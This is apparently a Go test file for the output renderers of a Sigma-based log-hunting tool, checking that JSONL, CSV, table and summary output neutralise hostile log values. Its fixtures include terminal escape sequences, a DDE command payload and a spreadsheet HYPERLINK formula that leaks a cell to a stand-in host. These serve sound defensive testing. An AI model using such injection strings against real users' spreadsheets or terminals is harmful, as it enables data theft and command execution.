package hunt

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/vigilsec/vigil/internal/csvsafe"
	"github.com/vigilsec/vigil/internal/detect"
	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/sigma"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/render")

// golden compares got with the file testdata/render/name, or with -update
// writes it.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", "render", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (go test -run %s -update writes it)", err, t.Name())
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s: output differs from the golden file (go test -update rewrites it after review)\n got:\n%s\nwant:\n%s", path, got, want)
	}
}

var renderBase = time.Date(2026, 3, 4, 5, 6, 7, 123456789, time.UTC)

// hostile are values a log can carry to attack whoever reads the output:
// a terminal (escape sequences, C1 controls, newlines and tabs that
// forge rows), a spreadsheet (formulas) or a parser (bytes that are not
// UTF-8, quotes).
const (
	hostileTitle = "Evil\x1b[2J\x1b]0;pwned\x07 title\u009b31m with \"quotes\", commas\nand a newline"
	hostileHost  = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
	hostileFile  = "evidence/\x1b[31mred\tfile\nname.log"
	notUTF8      = "bad \xff\xfe bytes \xc3"
)

// renderFindings are findings that cover every branch of the renderers:
// a JSON record (no log.original), a text line (log.original kept), a
// rule without tags, a correlation, a finding without an event, an event
// time taken from the event, and hostile and very long values.
func renderFindings() []Finding {
	jsonEv := &event.Event{Time: renderBase, Received: renderBase.Add(time.Hour), Raw: `{"Image":"C:\\evil.exe"}`,
		Logsource: event.Logsource{Product: "windows", Category: "process_creation"}}
	jsonEv.Set("Image", event.String(`C:\evil.exe`))
	jsonEv.Set("CommandLine", event.String("evil.exe -x"))
	jsonEv.Set("host.name", event.String("ws1.example.test"))
	jsonEv.Set("process.pid", event.Int(4242))

	lineEv := &event.Event{Time: renderBase.Add(2 * time.Second), Received: renderBase.Add(time.Hour),
		Raw: "<13>Mar  4 05:06:09 web1 app: MAGICWORD seen", Logsource: event.Logsource{Product: "linux", Service: "syslog"}}
	lineEv.Set("host.name", event.String("web1"))
	lineEv.Set("message", event.String("MAGICWORD seen"))

	hostileEv := &event.Event{Time: renderBase.Add(3 * time.Second), Raw: "text " + notUTF8 + " \x1b[2J", Tags: []string{"parse_error"}}
	hostileEv.Set("host.name", event.String(hostileHost))
	hostileEv.Set("user.name", event.String("+cmd|' /C calc'!A0"))
	hostileEv.Set("file.path", event.String(notUTF8))
	hostileEv.Set("message", event.String(strings.Repeat("A", 290)+"żółw"))
	hostileEv.Set("x", event.String("a"))
	hostileEv.Set("x", event.String("b")) // a repeated field is an array

	evil := &sigma.Rule{ID: "5b0c6b7e-3f5a-4b8e-9a51-0d6c1e9a7f01", Title: "Hunt test evil process", Level: "high",
		Tags: []string{"attack.execution", "attack.t1059.001"}}
	keyword := &sigma.Rule{ID: "5b0c6b7e-3f5a-4b8e-9a51-0d6c1e9a7f03", Title: "Hunt test magic word", Level: "medium"}
	corr := &sigma.Rule{ID: "corr-1", Title: "Many failures from one address", Level: "critical", Tags: []string{"attack.credential-access"}}
	hostile := &sigma.Rule{ID: "-2+3", Title: hostileTitle + strings.Repeat(" long", 40), Level: "low", Tags: []string{"=1+1", "@SUM(A1)", notUTF8}}

	return []Finding{
		{Detection: detect.Detection{Rule: evil, Event: jsonEv, Time: renderBase, Count: 1}, File: "logs/sysmon.jsonl", Host: "ws1.example.test"},
		// No detection time: the event's is used.
		{Detection: detect.Detection{Rule: keyword, Event: lineEv, Count: 1}, File: "logs/syslog.log", Host: "web1"},
		{Detection: detect.Detection{Rule: corr, Event: lineEv, Time: renderBase.Add(2 * time.Second),
			Group: []detect.GroupValue{{Field: "source.ip", Value: "10.0.0.1"}, {Field: "user.name", Value: "ro\"ot\n"}}, Count: 5},
			File: "logs/syslog.log", Host: "web1"},
		{Detection: detect.Detection{Rule: hostile, Event: hostileEv, Time: renderBase.Add(3 * time.Second), Count: 1},
			File: hostileFile, Host: hostileHost + strings.Repeat("é", 30)},
		// A finding without an event (none of Vigil's today; the format allows it).
		{Detection: detect.Detection{Rule: keyword, Time: renderBase.Add(4 * time.Second), Count: 1}, File: notUTF8, Host: notUTF8},
	}
}

// render writes findings as hunt does: rendered by Renderer (on the
// workers), written by Write, then flushed.
func render(t *testing.T, format string, fs []Finding) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := NewWriter(&buf, format)
	if err != nil {
		t.Fatal(err)
	}
	r := w.Renderer()
	for _, f := range fs {
		if r != nil {
			f.Line = r(&f, nil)
		}
		if err := w.Write(f); err != nil {
			t.Fatalf("Write: %v", err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatalf("Flush: %v", err)
	}
	return buf.Bytes()
}

func TestRenderGolden(t *testing.T) {
	fs := renderFindings()
	for _, format := range Formats {
		t.Run(format, func(t *testing.T) {
			golden(t, "findings."+format, render(t, format, fs))
		})
	}
}

// TestRenderJSONL checks the JSONL contract on the hostile findings: one
// valid JSON object per line, the fields of docs/hunt.md in their order,
// and the values as they were (bytes that are not UTF-8 as U+FFFD).
func TestRenderJSONL(t *testing.T) {
	fs := renderFindings()
	lines := strings.SplitAfter(string(render(t, "jsonl", fs)), "\n")
	if got, want := len(lines), len(fs)+1; got != want || lines[len(lines)-1] != "" {
		t.Fatalf("got %d newline-separated parts, want %d lines and nothing after the last", got-1, want-1)
	}
	for i, l := range lines[:len(fs)] {
		var m map[string]json.RawMessage
		if err := json.Unmarshal([]byte(l), &m); err != nil {
			t.Fatalf("line %d is not a JSON object: %v\n%s", i, err, l)
		}
		var keys []string
		dec := json.NewDecoder(strings.NewReader(l))
		dec.Token()
		for dec.More() {
			k, _ := dec.Token()
			keys = append(keys, k.(string))
			var skip json.RawMessage
			dec.Decode(&skip)
		}
		want := "rule_id rule_title level tags timestamp file event"
		if fs[i].Group != nil {
			want = "rule_id rule_title level tags timestamp file group count event"
		}
		if got := strings.Join(keys, " "); got != want {
			t.Errorf("line %d keys: got %s, want %s", i, got, want)
		}
	}
	var h struct {
		RuleTitle string         `json:"rule_title"`
		Tags      []string       `json:"tags"`
		File      string         `json:"file"`
		Event     map[string]any `json:"event"`
	}
	if err := json.Unmarshal([]byte(lines[3]), &h); err != nil {
		t.Fatal(err)
	}
	if want := fs[3].Rule.Title; h.RuleTitle != want {
		t.Errorf("rule_title: got %q, want %q", h.RuleTitle, want)
	}
	if want := string([]rune(notUTF8)); h.Tags[2] != want {
		t.Errorf("tag not UTF-8: got %q, want %q", h.Tags[2], want)
	}
	if h.File != hostileFile {
		t.Errorf("file: got %q, want %q", h.File, hostileFile)
	}
	if _, ok := h.Event["log.original"]; !ok {
		t.Errorf("event of a text line has no log.original: %v", h.Event)
	}
	var first struct{ Event map[string]any }
	json.Unmarshal([]byte(lines[0]), &first)
	if _, ok := first.Event["log.original"]; ok {
		t.Errorf("event of a JSON record repeats log.original: %v", first.Event)
	}
	if !strings.Contains(lines[1], `"tags":[]`) {
		t.Errorf("rule without tags: got %s, want \"tags\":[]", lines[1])
	}
	if !strings.Contains(lines[4], `"event":null}`) {
		t.Errorf("finding without an event: got %s, want \"event\":null", lines[4])
	}
}

// TestRenderCSV checks that the hostile findings give one CSV record
// each, of the header's columns, with no cell a spreadsheet would run.
func TestRenderCSV(t *testing.T) {
	fs := renderFindings()
	recs, err := csv.NewReader(bytes.NewReader(render(t, "csv", fs))).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v", err)
	}
	if got, want := len(recs), len(fs)+1; got != want {
		t.Fatalf("got %d records, want %d", got, want)
	}
	if got, want := strings.Join(recs[0], ",")+"\n", CSVHeader; got != want {
		t.Errorf("header: got %q, want %q", got, want)
	}
	for i, rec := range recs[1:] {
		for j, c := range rec {
			if csvsafe.Cell(c) != c && !strings.HasPrefix(c, "'") {
				t.Errorf("record %d cell %d %q would be read as a formula", i+1, j, c)
			}
		}
	}
	if got, want := recs[4][5], "'"+hostileHost; !strings.HasPrefix(got, want) {
		t.Errorf("host: got %q, want it to start with %q", got, want)
	}
	if got, want := recs[4][2], "-2+3"; got != "'"+want {
		t.Errorf("rule_id: got %q, want %q", got, "'"+want)
	}
}

// TestRenderTable checks that the table has one line per finding whatever
// the values hold, with no control character and cells cut to their
// width.
func TestRenderTable(t *testing.T) {
	fs := renderFindings()
	out := string(render(t, "table", fs))
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	if got, want := len(lines), len(fs)+1; got != want {
		t.Fatalf("got %d lines, want %d (a header and one per finding):\n%s", got, want, out)
	}
	if !utf8.ValidString(out) {
		t.Errorf("table is not UTF-8:\n%q", out)
	}
	for _, r := range out {
		if r < 0x20 && r != '\n' || r >= 0x7f && r < 0xa0 {
			t.Fatalf("table holds control character %U:\n%q", r, out)
		}
	}
	for _, tt := range []struct{ cell, want string }{
		{"title", termsafeCut(fs[3].Rule.Title, 80)},
		{"host", termsafeCut(fs[3].Host, 40)},
	} {
		if !strings.Contains(lines[4], tt.want) {
			t.Errorf("row 4 has no %s cell %q:\n%s", tt.cell, tt.want, lines[4])
		}
	}
	if !strings.HasPrefix(lines[2], "2026-03-04 05:06:09  medium") {
		t.Errorf("row 2 (time from the event): got %q, want it to start with the event's time", lines[2])
	}
}

// termsafeCut is what a table cell of s looks like, written out here so
// that the test does not only repeat the code.
func termsafeCut(s string, max int) string {
	var b strings.Builder
	for _, r := range s { // a byte that is not UTF-8 is U+FFFD
		switch {
		case r == '\n' || r == '\t' || r == '\r':
			r = ' '
		case r < 0x20 || r >= 0x7f && r < 0xa0:
			r = '?'
		}
		if b.Len()+utf8.RuneLen(r) > max {
			return b.String() + "…"
		}
		b.WriteRune(r)
	}
	return b.String()
}

func TestSummaryGolden(t *testing.T) {
	many := map[string]int64{}
	for i := range 20 {
		many[strings.Repeat(string(rune('a'+i)), 3)] = int64(i%4 + 1)
	}
	tests := []struct {
		name string
		s    Summary
	}{
		{"no findings", Summary{Files: 2, Events: 1000, Bytes: 123456, Elapsed: 1500 * time.Millisecond}},
		{"no time", Summary{Files: 1}},
		{"bad records", Summary{Files: 1, Events: 10, Bytes: 1 << 20, Elapsed: time.Second, ParseErrors: 3, Truncated: 1}},
		{"findings", Summary{Files: 3, Events: 500000, Bytes: 210e6, Elapsed: 2345 * time.Millisecond, Findings: 57,
			ByLevel:  map[string]int64{"critical": 1, "high": 20, "low": 36, "unknown": 9},
			ByRule:   many,
			ByTactic: map[string]int64{"Execution": 20, "Discovery": 36, "Credential Access": 1},
			ByHost:   map[string]int64{hostileHost: 5, "ws1\x1b[2J\nforged line": 50, notUTF8: 2}}},
	}
	var buf bytes.Buffer
	for _, tt := range tests {
		buf.WriteString("== " + tt.name + "\n")
		if err := WriteSummary(&buf, &tt.s); err != nil {
			t.Fatalf("%s: %v", tt.name, err)
		}
	}
	golden(t, "summary.txt", buf.Bytes())
	for _, r := range buf.String() {
		if r < 0x20 && r != '\n' || r >= 0x7f && r < 0xa0 {
			t.Fatalf("summary holds control character %U", r)
		}
	}
}

// failWriter fails every write after n bytes.
type failWriter struct{ n int }

var errDiskFull = errors.New("disk full")

func (w *failWriter) Write(p []byte) (int, error) {
	if len(p) > w.n {
		k := w.n
		w.n = 0
		return k, errDiskFull
	}
	w.n -= len(p)
	return len(p), nil
}

// TestWriterErrors checks that a failed write is the error of Write or
// Flush (findings not written are findings lost), the header's too.
func TestWriterErrors(t *testing.T) {
	f := renderFindings()[0]
	for _, format := range Formats {
		t.Run(format, func(t *testing.T) {
			w, err := NewWriter(&failWriter{}, format)
			if err != nil {
				t.Fatal(err)
			}
			if r := w.Renderer(); r != nil {
				f.Line = r(&f, nil)
			}
			werr := w.Write(f)
			ferr := w.Flush()
			if format != "table" && !errors.Is(werr, errDiskFull) {
				t.Errorf("Write: got %v, want %v", werr, errDiskFull)
			}
			if !errors.Is(ferr, errDiskFull) && format != "jsonl" {
				t.Errorf("Flush: got %v, want %v", ferr, errDiskFull)
			}
		})
	}
	if err := WriteSummary(&failWriter{n: 10}, &Summary{}); !errors.Is(err, errDiskFull) {
		t.Errorf("WriteSummary: got %v, want %v", err, errDiskFull)
	}
	if _, err := NewWriter(&bytes.Buffer{}, "xml"); err == nil || !strings.Contains(err.Error(), `"xml"`) {
		t.Errorf("NewWriter(xml): got %v, want an error naming the format", err)
	}
	w, _ := NewWriter(&bytes.Buffer{}, "jsonl")
	if err := w.Write(Finding{Detection: detect.Detection{Rule: &sigma.Rule{ID: "r1"}}}); err == nil {
		t.Errorf("Write of a JSONL finding not rendered: got nil, want an error")
	}
}

// FuzzRender renders findings of any rule title, host, file and field
// value: a JSONL line is one JSON object, a CSV record parses to the
// header's columns with no formula cell, and a table row is one line with
// no control character.
func FuzzRender(f *testing.F) {
	f.Add("title", "host", "file", "value", "raw line")
	f.Add(hostileTitle, hostileHost, hostileFile, notUTF8, `{"a":1}`)
	f.Add("\u2028", "@x", "\r", "\\", "\x00")
	f.Fuzz(func(t *testing.T, title, host, file, value, raw string) {
		ev := &event.Event{Time: renderBase, Raw: raw}
		ev.Set("v", event.String(value))
		fnd := Finding{Detection: detect.Detection{Rule: &sigma.Rule{ID: title, Title: title, Level: "high", Tags: []string{value}},
			Event: ev, Time: renderBase, Group: []detect.GroupValue{{Field: host, Value: value}}, Count: 1}, File: file, Host: host}

		l := AppendJSONL(nil, &fnd)
		if !json.Valid(l) || bytes.IndexByte(l, '\n') != len(l)-1 {
			t.Fatalf("JSONL line is not one JSON object: %q", l)
		}
		rec, err := csv.NewReader(bytes.NewReader(AppendCSV(nil, &fnd))).Read()
		if err != nil || len(rec) != 8 {
			t.Fatalf("CSV record: got %q, %v, want 8 cells", rec, err)
		}
		for _, c := range rec {
			if csvsafe.Cell(c) != c && !strings.HasPrefix(c, "'") {
				t.Fatalf("CSV cell %q would be read as a formula", c)
			}
		}
		out := string(render(t, "table", []Finding{fnd}))
		if strings.Count(out, "\n") != 2 {
			t.Fatalf("table: got %q, want a header and one row", out)
		}
		for _, r := range out {
			if r < 0x20 && r != '\n' || r >= 0x7f && r < 0xa0 {
				t.Fatalf("table holds control character %U: %q", r, out)
			}
		}
	})
}
